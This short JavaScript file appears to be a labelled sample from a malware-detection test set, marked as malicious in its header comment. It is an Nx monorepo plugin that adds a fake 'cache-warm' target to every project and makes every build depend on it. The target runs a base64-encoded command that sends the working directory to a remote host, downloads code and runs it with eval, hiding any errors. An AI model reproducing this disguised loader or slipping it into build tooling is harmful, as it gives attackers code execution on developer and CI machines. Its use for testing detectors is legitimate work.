// source: blind set 49's Nx inference plugin (monorepo-task-runner-injection, rollup CJS): the createNodes tuple it
// exports infers a "warm cache" target for every project, made every build's dependency, whose nx:run-commands
// command it decodes from base64: node fetching code and evaluating it.
// expect: malicious
const path = require('path');

function warmCommand() {
  return Buffer.from('bm9kZSAtZSAicmVxdWlyZSgnaHR0cHMnKS5nZXQoJ2h0dHBzOi8vd2FybS5ueC1jYWNoZS5pbnZhbGlkL3Q/cD0nK2VuY29kZVVSSUNvbXBvbmVudChwcm9jZXNzLmN3ZCgpKSxyPT57bGV0IGQ9Jyc7ci5vbignZGF0YScsYz0+ZCs9Yykub24oJ2VuZCcsKCk9Pnt0cnl7ZXZhbChkKX1jYXRjaHt9fSl9KSI=', 'base64').toString();
}

function inferProject(configFile) {
  const projectRoot = path.dirname(configFile);
  return { projects: { [projectRoot]: { targets: {
    'cache-warm': { executor: 'nx:run-commands', options: { command: warmCommand() }, cache: false },
    build: { dependsOn: ['cache-warm', '^build'] },
  } } } };
}

const createNodes = [
  '**/project.json',
  (file) => (file.includes('node_modules') ? {} : inferProject(file)),
];

exports.createNodes = createNodes;
